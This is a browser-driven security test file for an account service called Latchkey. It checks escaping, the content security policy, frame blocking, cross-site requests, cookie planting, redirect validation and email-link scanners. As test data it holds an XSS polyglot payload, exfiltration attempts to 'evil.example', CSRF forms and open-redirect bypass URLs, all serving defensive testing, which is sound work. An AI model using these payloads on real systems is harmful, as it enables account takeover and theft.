// What strangers try on the account pages, in a real browser. The server's own tests send the same by hand.
import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import { createServer } from "node:http";
import { before, test } from "node:test";
import { chromium, eventually } from "./lib/browser.mjs";
import { authenticator, field, linkOf, logIn, password, person, signUpWhole, someone, wholeFile } from "./lib/people.mjs";
import { dev } from "./lib/service.mjs";

/** Runs if any place takes it for markup: a dialog, which fails the test of a person. */
const markup = `"'><img src=x onerror=alert(1)><svg onload=alert(1)></title></textarea></template><script>alert(1)</script>{{7*7}}`;

let service;
let browser;
let app; // the app that may get a code
const visits = [];
const file = wholeFile();
before(async () => {
  app = createServer((req, res) => {
    visits.push(req.url);
    res.setHeader("content-type", "text/html").end("<!doctype html><title>app</title><h1>The app</h1>");
  });
  await new Promise((done) => app.listen(0, "127.0.0.1", done));
  file.after(() => new Promise((done) => app.close(done)));
  service = await dev(file, {
    LATCHKEY_PRODUCT_NAME: `Acme ${markup}`, LATCHKEY_RETURN_URLS: `http://localhost:${app.address().port}/callback`,
  });
  browser = await chromium(file);
});

/** A page of another origin. Every name under .example is this machine. */
async function strange(t, host, html) {
  const server = createServer((_, res) => res.setHeader("content-type", "text/html").end(`<!doctype html><title>x</title>${html}`));
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  t.after(() => server.close());
  return `http://${host}:${server.address().port}/`;
}

const security = (page) => page.getByRole("heading", { name: "Security", level: 1 }).waitFor();
const alive = async (page) => {
  await page.goto(`${service.origin}/account/security`);
  await security(page);
};

test("markup stays text in every field that a person can fill", async (t) => {
  const agent = `Mozilla/5.0 ${markup.replaceAll(/[\r\n]/g, "")} Chrome/1 Linux`;
  const page = await person(t, browser, { userAgent: agent });
  await authenticator(page);
  const email = someone();
  const name = markup.slice(0, 100);
  await signUpWhole(page, service, email, [name, name]);
  await eventually(() => page.locator("#first").inputValue(), name);
  await field(page, "Name of the passkey").fill(name);
  await page.getByRole("button", { name: "Add a passkey" }).click();
  await page.getByRole("button", { name: "I have saved them" }).click();
  await eventually(() => page.locator('[data-list="passkeys"] h3').textContent(), name);
  await page.getByRole("button", { name: /^Rename: / }).click();
  await eventually(() => page.locator("#rename").inputValue(), name);
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();

  // A client of its own can send any name of a device.
  const login = await page.evaluate(
    async ([email, password, deviceName]) =>
      (await fetch("/latchkey.v1.AuthService/Login", {
        method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password, deviceName }),
      })).json(),
    [email, password, name],
  );
  assert.ok(login.challenge, "the account has a passkey now");
  const plain = someone("plain");
  const other = await person(t, browser, { userAgent: agent });
  await signUpWhole(other, service, plain, [name, name]);
  await other.evaluate(
    async ([email, password, deviceName]) => {
      await fetch("/latchkey.v1.AuthService/Login", {
        method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email, password, deviceName }),
      });
    },
    [plain, password, name],
  );
  await other.goto(`${service.origin}/account/sessions`);
  await other.getByRole("heading", { name, exact: true }).waitFor();
  await other.goto(`${service.origin}/account/activity`);
  await other.getByRole("listitem").first().waitFor();
  await other.goto(`${service.origin}/account/delete`);
  await other.getByLabel(/Yes, delete/).waitFor();

  // The mails, as the mailbox shows them and as a mail program would.
  await page.goto(`${service.origin}/dev/mailbox`);
  await page.getByText(email).first().waitFor();
  for (const mail of await service.mails()) {
    const shown = await person(t, browser);
    await shown.setContent(mail.html);
    await shown.waitForTimeout(20);
    assert.equal(await shown.locator("img, script, svg").count(), 0, mail.subject);
    await shown.context().close();
  }
  assert.ok((await service.mails()).some((mail) => mail.text.includes("Acme ")), "the name of the product is in the mails");
});

test("what a link brings along is never markup", async (t) => {
  const page = await person(t, browser);
  const bad = encodeURIComponent(markup);
  for (const link of [
    `login?next=${bad}`, `login?lang=${bad}`, `reset#token=${bad}`, `verify#token=${bad}`, `email#undo=1&token=${bad}`, `login#${bad}`,
    `verify?token=${bad}`, `login?email=${bad}`,
  ]) {
    await page.goto("about:blank");
    await page.goto(`${service.origin}/account/${link}`);
    await page.locator("main [data-step]:not([hidden]):not(.waiting)").waitFor();
    assert.equal(await page.locator("main img, main svg").count(), 0, link);
  }
  await page.evaluate((html) => history.replaceState({ fragment: "token=" + html }, ""), markup);
  await page.reload();
});

test("the policy stops scripts, styles, forms and markup, if something should slip in", async (t) => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${service.origin}/account/login`);
  const stopped = await page.evaluate(async () => {
    const seen = [];
    await new Promise((done) => setTimeout(done)); // what the debugger evaluates itself may call eval
    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
    const attempt = (what) => {
      try {
        what();
      } catch (error) {
        seen.push(error.name);
      }
    };
    attempt(() => (document.body.innerHTML = "<img src=x onerror=window.hit=1>")); // trusted types
    attempt(() => eval("window.hit=1"));
    attempt(() => trustedTypes.createPolicy("default", { createHTML: (text) => text }));
    attempt(() => {
      const script = document.createElement("script");
      script.append("window.hit=1");
      document.head.append(script);
    });
    attempt(() => {
      const style = document.createElement("style");
      style.append("body{display:none}");
      document.head.append(style);
    });
    attempt(() => {
      const image = document.createElement("img");
      image.src = "https://evil.example/?stolen";
      document.body.append(image);
    });
    attempt(() => document.querySelector("form").submit());
    await fetch("https://evil.example/").catch(() => seen.push("fetch"));
    await new Promise((done) => setTimeout(done, 300));
    return { seen, hit: window.hit, display: getComputedStyle(document.body).display, at: location.href };
  });
  assert.equal(stopped.hit, undefined);
  assert.notEqual(stopped.display, "none");
  assert.equal(stopped.at, `${service.origin}/account/login`);
  for (const directive of ["require-trusted-types-for", "trusted-types", "EvalError", "style-src-elem", "img-src", "form-action", "connect-src", "fetch"]) {
    assert.ok(stopped.seen.includes(directive), `${directive} of ${stopped.seen}`);
  }
});

test("no other page can show these in a frame", async (t) => {
  const evil = await strange(t, "evil.example", `<iframe src="${service.origin}/account/security"></iframe>`);
  const page = await (await browser.newContext()).newPage();
  await page.goto(evil);
  await page.waitForTimeout(500);
  const frame = page.frames().at(-1);
  assert.ok(!frame.url().startsWith(service.origin), frame.url());
});

test("pages of other origins can do nothing with a visitor's session: forms, scripts, WebSockets", async (t) => {
  const page = await person(t, browser);
  await signUpWhole(page, service, someone());
  const cookies = (await page.context().cookies()).filter((cookie) => cookie.name.includes("latchkey") && cookie.name !== "latchkey_language");
  assert.equal(cookies.length, 2);
  for (const cookie of cookies) assert.ok(cookie.httpOnly && cookie.secure && cookie.sameSite === "Strict", JSON.stringify(cookie));
  assert.equal(await page.evaluate(() => document.cookie), "");
  assert.ok(!(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).includes("eyJ"), "no token is kept where scripts can read it");

  const port = new URL(service.origin).port;
  const logout = `${service.origin}/latchkey.v1.AuthService/Logout`;
  // The name of the host with another port is another origin and the same site: SameSite alone would let it in.
  for (const host of ["evil.example", "localhost", "localhost.example", "127.0.0.1"]) {
    const evil = await strange(t, host, `
      <form id="f" method="post" enctype="text/plain" action="${logout}"><input name='{"refreshToken":"","x":"' value='"}'></form>`);
    const tab = await page.context().newPage();
    await tab.goto(evil);
    const seen = await tab.evaluate(async ([to, port]) => {
      const outcomes = [];
      for (const [mode, headers] of [
        ["cors", { "content-type": "application/json", "connect-protocol-version": "1", "latchkey-pages": "1" }],
        ["cors", { "content-type": "application/json", "connect-protocol-version": "1" }],
        ["cors", { "content-type": "application/json" }],
        ["no-cors", { "content-type": "text/plain" }],
      ]) {
        for (const method of ["Logout", "RefreshToken"]) {
          outcomes.push(await fetch(to.replace("Logout", method), { method: "POST", mode, headers, body: "{}", credentials: "include" })
            .then(async (r) => `${r.status} ${await r.text()}`, (error) => error.name));
        }
      }
      navigator.sendBeacon(to, new Blob(["{}"], { type: "text/plain" }));
      outcomes.push(await new Promise((done) => {
        const socket = new WebSocket(`ws://localhost:${port}/latchkey.v1.AuthService/RefreshToken`);
        socket.onopen = () => done("open");
        socket.onerror = () => done("refused");
      }));
      return outcomes;
    }, [logout, port]);
    assert.equal(seen.at(-1), "refused", host);
    assert.ok(!seen.some((line) => line.includes("eyJ") || line.startsWith("200")), `${host}: ${seen}`);
    await tab.evaluate(() => document.getElementById("f").submit());
    await tab.waitForLoadState();
    await tab.close();
    await alive(page);
  }
});

test("a sub-domain that plants cookies logs nobody in to another account", async (t) => {
  const mallory = await person(t, browser);
  await signUpWhole(mallory, service, someone("mallory"));
  const stolen = (await mallory.context().cookies()).find((cookie) => cookie.name === "__Secure-latchkey_refresh");

  // A page of a sub-domain can set a cookie for the domain, and one with a longer path comes first.
  const page = await person(t, browser);
  const email = someone();
  await signUpWhole(page, service, email);
  await page.context().addCookies([
    { name: stolen.name, value: stolen.value, domain: "localhost", path: "/latchkey.v1.AuthService/RefreshToken", secure: true, httpOnly: true, sameSite: "Strict" },
  ]);
  await page.reload();
  await page.getByText(email).waitFor();

  const fresh = await person(t, browser);
  await fresh.context().addCookies([{ ...stolen }]);
  await fresh.goto(`${service.origin}/account/login`);
  await fresh.evaluate(() => localStorage.setItem("latchkey.session", "1"));
  await fresh.goto(`${service.origin}/account/security`);
  await fresh.getByRole("heading", { name: /^Log in to Acme/ }).waitFor();
});

test("a logout that the service has refused is told, and is not taken for done", async (t) => {
  const page = await person(t, browser);
  await signUpWhole(page, service, someone());
  const refusals = [
    { status: 429, code: "resource_exhausted", reason: "RATE_LIMITED", told: "Too many tries" },
    { status: 500, code: "internal", reason: "", told: "That did not work" },
  ];
  for (const { status, code, reason, told } of refusals) {
    await page.route("**/latchkey.v1.AuthService/Logout", (route) => route.fulfill(refusal(status, code, reason)));
    await page.getByRole("button", { name: "Log out", exact: true }).click();
    await page.getByText(told).first().waitFor();
    assert.ok(page.url().endsWith("/account/security"), page.url());
    assert.equal(await page.evaluate(() => localStorage.getItem("latchkey.session")), "1");
    await page.unroute("**/latchkey.v1.AuthService/Logout");
  }
  await page.getByRole("button", { name: "Log out", exact: true }).click();
  await page.getByRole("heading", { name: /^Log in to Acme/ }).waitFor();
  await page.goto(`${service.origin}/account/security`);
  await page.getByRole("heading", { name: /^Log in to Acme/ }).waitFor();
});

test("a refresh that was refused for another reason than its session keeps the session, and its id", async (t) => {
  const page = await person(t, browser);
  const email = someone();
  await signUpWhole(page, service, email);
  const ids = [];
  await page.route("**/latchkey.v1.AuthService/RefreshToken", (route) => {
    ids.push(route.request().postDataJSON().requestId);
    return ids.length === 1 ? route.fulfill(refusal(500, "internal", "")) : route.continue();
  });
  await page.reload();
  await page.getByText("That did not work").waitFor();
  assert.ok(page.url().endsWith("/account/security"), page.url());
  await page.reload();
  await page.getByText(email).waitFor();
  assert.equal(ids.length, 2);
  assert.equal(ids[0], ids[1]);
});

test("after somebody else has logged in in this browser, a page of the person before does nothing in their name", async (t) => {
  const page = await person(t, browser);
  await signUpWhole(page, service, someone());
  const grace = someone("grace");
  const other = await person(t, browser);
  await signUpWhole(other, service, grace, ["Grace", "Hopper"]);
  // As an app of the service does: the cookie is one for the browser.
  const logged = await page.evaluate(
    async ([email, password]) =>
      (await fetch("/latchkey.v1.AuthService/Login", {
        method: "POST", headers: { "content-type": "application/json", "connect-protocol-version": "1", "latchkey-pages": "1" },
        body: JSON.stringify({ email, password }),
      })).json(),
    [grace, password],
  );
  assert.equal(logged.tokens.refreshToken ?? "", "");
  let expired = false;
  await page.route("**/latchkey.v1.AccountService/UpdateAccount", (route) => {
    if (expired) return route.continue();
    expired = true;
    return route.fulfill(refusal(401, "unauthenticated", "TOKEN_EXPIRED"));
  });
  await page.locator("#first").fill("Mallory");
  await page.locator('form[data-form="profile"]').getByRole("button", { name: "Save" }).click();
  await page.getByText(`As ${grace}.`).waitFor();
  await other.reload();
  await eventually(() => other.locator("#first").inputValue(), "Grace");
});

test("a login waits for the refresh of another tab, whose answer would bring the cookie of the person before back", async (t) => {
  const grace = someone("grace");
  await signUpWhole(await person(t, browser), service, grace, ["Grace", "Hopper"]);
  const page = await person(t, browser);
  // Opened while nobody is logged in here: later the page of logins would go on to the account.
  const tab = await page.context().newPage();
  await tab.goto(`${service.origin}/account/login`);
  await signUpWhole(page, service, someone());
  const sent = [];
  let release;
  const released = new Promise((done) => (release = done));
  await page.route("**/latchkey.v1.AuthService/RefreshToken", async (route) => {
    sent.push("refresh");
    await released;
    sent.push("released");
    await route.continue();
  });
  await tab.route("**/latchkey.v1.AuthService/Login", (route) => {
    sent.push("login");
    return route.continue();
  });
  const reloaded = page.reload();
  await eventually(() => Promise.resolve(sent.join()), "refresh");
  await field(tab, "Email address").fill(grace);
  await field(tab, "Password").fill(password);
  await tab.getByRole("button", { name: "Log in", exact: true }).click();
  await eventually(() => tab.evaluate(async () => (await navigator.locks.query()).pending.length), 1);
  release();
  await reloaded;
  await eventually(() => tab.locator("#first").inputValue(), "Grace");
  assert.deepEqual(sent.slice(0, 3), ["refresh", "released", "login"]);
  await tab.reload();
  await eventually(() => tab.locator("#first").inputValue(), "Grace");
});

/** What the service refuses a call with, as JSON of Connect. */
function refusal(status, code, reason) {
  const details = reason ? [{ type: "google.rpc.ErrorInfo", value: "", debug: { reason } }] : [];
  return { status, contentType: "application/json", body: JSON.stringify({ code, message: "refused", details }) };
}

test("an app gets a code that is good once, and no look-alike gets anything", async (t) => {
  const callback = `http://localhost:${app.address().port}/callback`;
  const verifier = randomBytes(32).toString("base64url");
  const challenge = createHash("sha256").update(verifier).digest("base64url");
  const link = (to, page = "login") =>
    `${service.origin}/account/${page}?return_to=${encodeURIComponent(to)}&code_challenge=${challenge}&code_challenge_method=S256&state=a%26b%3Dc`;
  const page = await person(t, browser);
  for (const to of [
    `${callback}/`, `${callback}?x`, `${callback}#`, callback.replace("localhost", "LOCALHOST"), callback.replace("localhost", "localhost.evil.example"),
    callback.replace("localhost", "evil.example\\@localhost"), callback.replace("localhost", "localhost@evil.example"), callback.replace("http:", ""),
    callback.replace("/callback", "/%63allback"), "//evil.example", "/\\evil.example", "javascript:alert(1)", "https://evil.example/",
  ]) {
    const answer = await page.goto(link(to));
    assert.equal(answer.status(), 400, to);
    assert.ok(page.url().startsWith(service.origin), page.url());
  }

  const email = someone();
  await page.goto(link(callback, "signup"));
  await page.getByText(`You go on to localhost:${app.address().port} then.`).waitFor();
  await page.getByLabel("First name").fill("Ada");
  await page.getByLabel("Last name").fill("Lovelace");
  await page.getByLabel("Email address").fill(email);
  await field(page, "New password").fill(password);
  await page.getByRole("button", { name: "Create an account" }).click();
  await page.getByRole("button", { name: "Later" }).click();
  await page.getByRole("heading", { name: "The app" }).waitFor();
  const back = new URL(page.url());
  assert.equal(back.origin + back.pathname, callback);
  assert.equal(back.searchParams.get("state"), "a&b=c");
  assert.match(back.searchParams.get("iss"), /^http:\/\/127\.0\.0\.1:\d+$/);
  const exchange = async (codeVerifier) => {
    const answer = await fetch(`${service.origin}/latchkey.v1.AuthService/ExchangeAuthorizationCode`, {
      method: "POST", headers: { "content-type": "application/json" },
      body: JSON.stringify({ code: back.searchParams.get("code"), codeVerifier, redirectUri: callback, deviceName: "The app" }),
    });
    return { status: answer.status, ...(await answer.json()) };
  };
  const got = await exchange(verifier);
  assert.equal(got.user.email, email);
  assert.ok(got.tokens.refreshToken, "a session of its own");
  assert.equal((await exchange(verifier)).status, 400, "once");

  // The link of a reset that was asked for on the way opens in another tab. From there the way goes on to the app.
  const forgetful = await person(t, browser);
  await forgetful.goto(link(callback));
  await forgetful.getByRole("link", { name: "Forgot your password?" }).click();
  await forgetful.getByLabel("Email address").fill(email);
  await forgetful.getByRole("button", { name: "Send the link" }).click();
  await forgetful.goto(linkOf(await service.mail(email, /[Rr]eset/)));
  await field(forgetful, "New password").fill(password + " 2");
  await forgetful.getByRole("button", { name: "Set the password" }).click();
  await forgetful.getByRole("link", { name: "Log in", exact: true }).filter({ visible: true }).click();
  await forgetful.getByText(`You go on to localhost:${app.address().port} then.`).waitFor();
  await forgetful.getByLabel("Email address").fill(email);
  await field(forgetful, "Password").fill(password + " 2");
  await forgetful.getByRole("button", { name: "Log in", exact: true }).click();
  await forgetful.getByRole("heading", { name: "The app" }).waitFor();
  await forgetful.goto(`${service.origin}/account/reset#token=x`);
  assert.equal(await forgetful.evaluate(() => localStorage.getItem("latchkey.app")), null, "the app has got its login");
  // The reset has ended the other browser's session.
  await page.goto(link(callback));
  await page.getByLabel("Email address").fill(email);
  await field(page, "Password").fill(password + " 2");
  await page.getByRole("button", { name: "Log in", exact: true }).click();
  await page.getByRole("heading", { name: "The app" }).waitFor();

  // Somebody who is logged in is asked, and nothing happens by itself.
  const before = visits.length;
  await page.goto(link(callback));
  await page.getByText(`as ${email}?`).waitFor();
  assert.equal(visits.length, before);
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("heading", { name: "The app" }).waitFor();

  // A login after all: the page carries on to the app only what it has checked.
  await page.goto(link(callback));
  await page.getByRole("button", { name: "Use another account" }).click();
  await page.getByRole("heading", { name: /^Log in to Acme/ }).waitFor();
  await page.getByLabel("Email address").fill(email);
  await field(page, "Password").fill(password + " 2");
  await page.getByRole("button", { name: "Log in", exact: true }).click();
  await page.getByRole("heading", { name: "The app" }).waitFor();
});

test("a program that opens the links of mails uses nothing up, also one that runs scripts", async (t) => {
  const page = await person(t, browser);
  const email = someone();
  await signUpWhole(page, service, email);
  await page.goto(`${service.origin}/account/forgot`);
  await page.getByLabel("Email address").fill(email);
  await page.getByRole("button", { name: "Send the link" }).click();
  const link = linkOf(await service.mail(email, /[Rr]eset/));
  for (let i = 0; i < 3; i++) {
    const scanner = await person(t, browser);
    const calls = [];
    scanner.on("request", (request) => request.method() !== "GET" && calls.push(request.url()));
    await scanner.goto(link, { waitUntil: "networkidle" });
    assert.deepEqual(calls, []);
    await eventually(() => new URL(scanner.url()).hash, "");
  }
  await page.goto(link);
  await field(page, "New password").fill("a second good password");
  await page.getByRole("button", { name: "Set the password" }).click();
  await page.getByRole("heading", { name: "Your new password is set" }).waitFor();
  await logIn(page, service, email, "a second good password");
  await security(page);
});
